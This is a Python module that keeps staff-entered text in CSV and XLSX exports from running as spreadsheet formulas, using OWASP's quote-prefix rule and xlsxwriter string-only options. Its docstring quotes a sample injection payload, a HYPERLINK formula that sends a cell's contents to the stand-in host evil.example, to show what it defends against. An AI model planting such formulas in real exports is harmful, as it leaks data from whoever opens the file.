"""Spreadsheet cells that stay data: CSV text a spreadsheet program will not run as a formula.

Producer names, locations and other text typed by staff reach the regulators' exports and the
public dashboard's CSV. A cell such as `=HYPERLINK("http://evil.example/?"&A2,"点击核对")` would be
run by Excel or LibreOffice when the file is opened. OWASP's advice for CSV: a cell beginning
with `=`, `+`, `-`, `@`, a tab or a carriage return is prefixed with a single quote, which the
program shows as text (and hides). Plain numbers such as `-3.5` are left alone: a program reads
them as numbers, never as formulas, and the column still sums. XLSX needs no prefix: its cells
are written as strings (xlsxwriter's `strings_to_formulas` off, `write_string`).
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
# For xlsxwriter.Workbook(options): no string is ever turned into a formula, number or link.
XLSX_OPTIONS = {"strings_to_formulas": False, "strings_to_numbers": False, "strings_to_urls": False}


def csv_safe(value: Any) -> Any:
    """The cell as a spreadsheet will show it as text: a formula-like string gets a `'` prefix."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


class SafeCsvWriter:
    """csv.writer whose rows are neutralised cell by cell (see csv_safe)."""

    def __init__(self, buffer: Any, **kwargs: Any) -> None:
        kwargs.setdefault("lineterminator", "\r\n")
        self._writer = csv.writer(buffer, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([csv_safe(cell) for cell in row])


def write_string_row(sheet: Any, row_number: int, cells: Iterable[Any], fmt: Any = None) -> None:
    """Every cell of the row written as an XLSX string cell (never a formula or a link)."""
    for column, cell in enumerate(cells):
        sheet.write_string(row_number, column, "" if cell is None else str(cell), fmt)
